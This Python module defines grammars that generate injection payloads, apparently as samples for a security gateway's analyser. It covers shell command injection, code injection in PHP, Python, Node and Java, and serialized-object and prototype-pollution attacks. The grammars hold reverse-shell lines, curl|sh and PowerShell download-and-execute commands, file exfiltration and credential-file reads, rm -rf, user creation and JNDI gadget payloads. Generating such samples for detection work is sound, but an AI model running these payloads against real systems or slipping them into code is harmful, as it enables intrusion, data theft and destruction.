"""Attacks on what runs: shells (POSIX, cmd, PowerShell), code of several languages, objects that are brought back to life."""

from __future__ import annotations

from typing import Final

from gateway.analyst.text.grammar import Grammar

SHELL: Final = Grammar(
    {
        "start": """
«before»; «command»
«before»;«command»
«before» | «command»
«before»|«command»
«before»|| «command»
«before» && «command»
«before»&&«command»
«before»`«command»`
«before»$(«command»)
«before»\\n«command»
«before» & «command» &
«before»; «command» #
«before»';«command»;'
«before»";«command»;"
«before»'|«command»#
«before»"&«command»&"
«command»
|«command»|
;«command»;
$(«command»)
`«command»`
() { :;}; «command»
«before»%0a«command»
{«word»,«file»}
""",
        "before": "«empty»\n«empty»\n«number»\n«word»\n«address»\n127.0.0.1\n«domain»\n«word».txt",
        "command": """
cat «file»
cat «file»
ls -la «folder»
ls
ls «folder»
id
whoami
uname -a
ping -c «small» «domain»
ping -n «small» «address»
nslookup «domain»
dig «domain»
curl http://«domain»/«letter»|sh
curl http://«address»/«word» -o «folder»«word»
curl -d @«file» http://«domain»
wget http://«domain»/«word» -O «folder»«word»; chmod +x «folder»«word»
wget -q http://«address»/«letter».sh
wget http://«address»/«word»
nc -e /bin/sh «address» «number»
nc «address» «number»
bash -i >& /dev/tcp/«address»/«number» 0>&1
bash -c '«command»'
sh -c "«command»"
/bin/cat «file»
/usr/bin/id
/???/c?t «file»
python -c 'import os;os.system("«word»")'
python3 -c "import socket,subprocess,os"
perl -e 'system("«word»")'
php -r 'system("«word»");'
ruby -e 'exec "«word»"'
echo «token»|base64 -d|sh
echo «word» > «folder»«word»
rm -rf «folder»
sleep «small»
dir c:\\
type c:\\windows\\win.ini
powershell -enc «token»
powershell -c "iex(new-object net.webclient).downloadstring('http://«domain»/«letter»')"
cmd /c «word»
cmd.exe /c dir
net user «word» «word» /add
certutil -urlcache -f http://«domain»/«letter».exe «letter».exe
env
printenv
ps aux
netstat -an
ifconfig
ipconfig /all
find / -name «word»
grep -r «word» /
head -n «small» «file»
tail «file»
tac «file»
nl «file»
xxd «file»
kill -9 «number»
mkfifo /tmp/«letter»;nc «address» «number» 0</tmp/«letter»
crontab -l
systeminfo
reboot
w
touch /tmp/«word»
vol
echo $PATH
""",
        "file": "/etc/passwd\n/etc/passwd\n/etc/shadow\n/etc/hosts\n/proc/self/environ\n/var/log/«word».log\n~/.ssh/id_rsa\n/root/.bash_history\n/home/«word»/.«word»\n/«word»/«word»\n.env\n/etc/«word».conf\nconfig.php",
        "folder": "/\n/tmp/\n/etc/\n/var/www/\n/dev/shm/\n~/\n/home/«word»/\n.",
    }
)
CODE: Final = Grammar(
    {
        "start": """
<?php «php»; ?>
<?php «php»;
<?= «php» ?>
<?=`$_GET[«letter»]`?>
«before»;«php»;//
«before»';«php»;//
«before»".«php»."
${@«php»}
{${«php»}}
__import__('os').«python»
eval(compile('import os','','exec'))
exec("import os;os.«python»")
«before»'+__import__('os').popen('«word»').read()+'
require('child_process').exec«sync»('«word»')
global.process.mainModule.require('child_process').exec«sync»('«word»').toString()
process.binding('fs')
(function(){return this})().process.exit()
res.end(require('fs').readFileSync('/etc/passwd'))
Runtime.getRuntime().exec("«word»")
<% Runtime.getRuntime().exec(request.getParameter("«letter»")); %>
class.module.classLoader.resources.context.parent.pipeline.first.pattern=«word»
<!--#exec cmd="«word»" -->
<!--#include virtual="/etc/passwd" -->
\\r\\nSet-Cookie: «word»=«word»
%0d%0aLocation: http://«domain»
%0d%0a%0d%0a<html>«word»
=cmd|' /C calc'!A0
@SUM(1+9)*cmd|' /C calc'!A0
""",
        "before": "«empty»\n«number»\n«word»\n1)",
        "php": "system('«word»')\nphpinfo()\neval($_POST['«letter»'])\nassert($_GET[«letter»])\nshell_exec('«word»')\npassthru('«word»')\nfile_get_contents('/etc/passwd')\nexec($_REQUEST['«letter»'])\nprint(md5(«number»))\neval(base64_decode('«token»'))\nfile_put_contents('«word».php','«word»')\nsystem($_GET['«letter»'])\ndie(md5(«number»))\npopen('«word»','r')\ncall_user_func('system','«word»')\ninclude('http://«domain»/«letter»')\npreg_replace('/«letter»/e','«word»','«letter»')",
        "python": "system('«word»')\npopen('«word»').read()\nenviron\nlistdir('/')",
        "sync": "«empty»\nSync",
    }
)
OBJECTS: Final = Grammar(
    {
        "start": """
O:«small»:"«word»":«small»:{s:«small»:"«word»";s:«small»:"«word»";}
a:«small»:{i:0;O:«small»:"«word»":«small»:{s:«small»:"«column»";b:1;}}
O:«number»:"«word»\\«word»":«small»:{s:«small»:"«column»";O:«small»:"«word»":0:{}}
rO0AB«javas»
rO0ABXNyA«javas»
aced0005737200«hexes»«hexes»
{"@type":"«class»","«column»":"«call»","autoCommit":true}
["«class»",{"«column»":"«call»"}]
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://«domain»/"]]]]
!!python/object/apply:os.system ["«word»"]
!!python/object/new:subprocess.check_output [["«word»"]]
!!ruby/object:Gem::Installer\\n i: «letter»
--- !ruby/object:«word»
cos\\nsystem\\n(S'«word»'\\ntR.
c__builtin__\\neval\\n(V«word»\\ntR.
gASV«javas»
{"py/object": "«word».«word»", "py/reduce": [{"py/type": "os.system"}, ["«word»"]]}
{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«word»')}()"}
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}
AAEAAAD/////«javas»
<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>
{"__proto__": {"«word»": true}}
{"__proto__":{"isAdmin":true}}
{"constructor": {"prototype": {"«word»": "«word»"}}}
__proto__[«word»]=«word»
constructor[prototype][«word»]=true
__proto__.«word»=«small»
""",
        "javas": "«token»«token»\n«token»==\n«token»AAAAAAAAAB«token»",
        "class": "com.sun.rowset.JdbcRowSetImpl\norg.apache.xbean.propertyeditor.JndiConverter\nch.qos.logback.core.db.DriverManagerConnectionSource\norg.springframework.context.support.ClassPathXmlApplicationContext\ncom.«word».«word».TemplatesImpl\njava.lang.Class\norg.apache.commons.configuration.JNDIConfiguration",
        "call": "ldap://«domain»/«letter»\nrmi://«address»:«number»/«word»\nhttp://«domain»/«word».xml\njndi:ldap://«domain»",
    }
)
